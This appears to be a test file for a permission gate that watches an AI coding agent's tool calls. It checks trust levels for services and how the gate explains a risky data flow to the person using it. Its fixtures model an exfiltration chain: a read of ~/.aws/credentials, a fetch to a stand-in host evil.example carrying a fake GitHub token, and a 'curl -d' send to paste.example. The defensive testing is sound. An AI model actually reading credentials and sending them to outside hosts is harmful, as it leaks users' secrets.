// What a person reads about trust in services and about what a session did, and which acts are offered for it.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Pending, PendingOperation } from '../../../src/gate/api.ts';
import type { TrustEntry } from '../../../src/gate/trustApi.ts';
import type { Decision, VerdictFact } from '../../../src/policy/decision.ts';
import { analysis } from '../../../src/policy/effects.ts';
import {
  actionsFor,
  factsText,
  flowDocument,
  grantsFor,
  holds,
  lastOf,
  placeName,
  trustDocument,
} from '../../../src/extension/trustTexts.ts';
import { questionDocument, reasonText } from '../../../src/extension/question.ts'; // prettier-ignore

const entry: TrustEntry = {
  service: 'mcp:github',
  kind: 'read',
  score: 69,
  level: 'approveFirst',
  source: 'start',
  exact: [],
  streak: 5,
  successes: 5,
  failures: 0,
  incidents: 0,
  held: undefined,
  history: [{ time: 0, type: 'success', reason: 'a call succeeded (list_issues | x)', score: 69, level: 'approveFirst' }],
  proposal: { service: 'mcp:github', kind: 'read', from: 'approveFirst', to: 'log', successes: 5, text: '5 clean reads from mcp:github: stop asking for reads?' },
}; // prettier-ignore

const labels = (one: TrustEntry): readonly string[] =>
  actionsFor(one).map(({ label }) => label.replace(/^\$\([^)]*\) /u, ''));

test('an entry says what holds for it', () => {
  assert.equal(placeName(entry), 'mcp:github · reads');
  assert.equal(placeName({ ...entry, service: 'mcp:a\u202Eb' }), 'mcp:a⟨U+202E⟩b · reads');
  assert.equal(holds(entry), 'score 69 · no trust granted yet');
  assert.equal(
    holds({ ...entry, source: 'person', level: 'log' }),
    'score 69 · Pass, with a line in the log',
  );
  assert.equal(holds({ ...entry, source: 'incident', level: 'approveAlways' }), 'score 69 · Ask each time, after an incident'); // prettier-ignore
  assert.equal(holds({ ...entry, held: 'blocked' }), 'score 69 · blocked by your settings');
  assert.match(lastOf(entry), /^Proposed: 5 clean reads/);
  assert.match(lastOf({ ...entry, proposal: undefined }), /a call succeeded/);
});

test('what is proposed is offered first, and every level that the person does not have', () => {
  assert.deepEqual(labels(entry).slice(0, 2), ['Accept: Pass, with a line in the log', 'Not now']);
  const granted = labels({ ...entry, source: 'person', level: 'log', proposal: undefined });
  assert.ok(!granted.includes('Accept: Pass, with a line in the log') && !granted.includes('Pass, with a line in the log')); // prettier-ignore
  for (const label of ['Blocked', 'Ask each time', 'Pass', 'Take your level back', 'Report an incident…', 'Forget what happened']) assert.ok(granted.includes(label), label); // prettier-ignore
});

test('no level is offered that would do nothing: messages and publications are granted one operation at a time', () => {
  for (const kind of ['send', 'publish'] as const) {
    const offered = labels({ ...entry, kind, proposal: undefined });
    assert.ok(!offered.includes('Pass') && !offered.includes('Ask once a session'), kind);
    assert.ok(offered.includes('Ask each time'));
  }
});

const operation: PendingOperation = {
  service: 'mcp:github',
  kind: 'write',
  name: 'create_issue',
  risk: 'medium',
};
const grants: readonly (readonly [what: string, operations: readonly PendingOperation[], deeds: readonly string[]])[] = [
  ['a change', [operation], ['level', 'grantExact']],
  ['a grave change', [{ ...operation, risk: 'high' }], ['grantExact']],
  ['a message', [{ ...operation, kind: 'send', name: 'post_message', risk: 'high' }], ['grantExact']],
  ['an operation without a name', [{ ...operation, name: '' }], ['level']],
  ['two of one kind', [operation, { ...operation, name: 'create_label' }], ['level']],
  ['two services', [operation, { ...operation, service: 'mcp:other' }], []],
  ['two kinds', [operation, { ...operation, kind: 'read' }], []],
  ['nothing outside', [], []],
]; // prettier-ignore
for (const [what, operations, deeds] of grants)
  test(`granted in answer to ${what}: ${deeds.join(', ') || 'nothing'}`, () =>
    assert.deepEqual(grantsFor({ operations }).map(({ deed }) => deed.type), deeds)); // prettier-ignore

const facts: readonly VerdictFact[] = [
  { role: 'private', call: 'c1', what: '/home/dev/.aws/credentials', act: 'read “/home/dev/.aws/credentials”', time: 0 },
  { role: 'untrusted', call: 'c2', what: 'web:evil.example', act: 'fetch “https://evil.example/?token=ghp_0123456789abcdefghijklmnopqrstuvwxyz”' },
  { role: 'sent', call: 'this call', what: 'web:paste.example' },
]; // prettier-ignore

test('a send after private data and foreign content is told as one story, without ids and secrets', () => {
  const text = factsText(facts);
  assert.match(text, /read private data \(\/home\/dev\/\.aws\/credentials, when it wanted to read/);
  assert.match(text, /content that others wrote \(web:evil\.example, when it wanted to fetch/);
  assert.match(text, /data would go out to web:paste\.example\. Such content can hold orders/);
  assert.doesNotMatch(text, /c1|c2|ghp_/);
  assert.equal(factsText([]), '');
  assert.match(factsText([{ role: 'written', call: 'c', what: '/ws/a.sh', act: 'write “/ws/a.sh”' }]), /file that this session wrote itself: \/ws\/a\.sh/); // prettier-ignore
});

const decision: Decision = {
  behavior: 'ask',
  allowed: false,
  layer: 'ask-rule',
  reason: 'A rule asks.',
  rule: { text: 'curl *', behavior: 'ask', scope: 'user' },
  consequence: '',
  mode: 'default',
  analysis: analysis([]),
  trace: [{ line: 'flow', behavior: 'ask', reason: 'It sends data out.', facts }],
};

test('the story is told whatever it is that asks', () => {
  assert.match(reasonText(decision), /^Your user rule “curl \*” asks about it\. Three things come together/);
  assert.match(reasonText({ ...decision, layer: 'flow' }), /^Three things come together/);
  assert.equal(reasonText({ ...decision, layer: 'flow', trace: [] }), 'A rule asks.');
});

test('the document of a question links the facts to their calls', () => {
  const pending: Pending = {
    id: 'q', session: 's', agent: 'claude', tool: 'Bash', input: {}, cwd: '/ws', askedAt: 0, digest: '', suggestions: [], operations: [],
    call: { kind: 'shell', tool: 'Bash', command: 'curl -d a https://paste.example', shell: 'posix', background: false },
    decision,
  }; // prettier-ignore
  const text = questionDocument(pending, 'Claude Code');
  assert.match(
    text,
    /## What this session did\n\n- private data read: .*\(c1\)\n- content of others taken in: .*\(c2\)/,
  );
});

test('documents hold every event and every fact, and no text of an agent can leave its cell', () => {
  const text = trustDocument(entry);
  assert.match(text, /\| a call succeeded \(list_issues \\\| x\) \| 69 \|/);
  const flow = {
    private: [],
    untrusted: [{ call: 'c2', what: 'web:a|b', act: 'fetch “x”\n| forged |' }],
    sent: [],
  };
  const told = flowDocument('Claude Code', flow);
  assert.match(told, /web:a\\\|b/);
  assert.doesNotMatch(told, /^\| forged/m);
  assert.match(told, /## Private data read\n\nNothing\./);
});
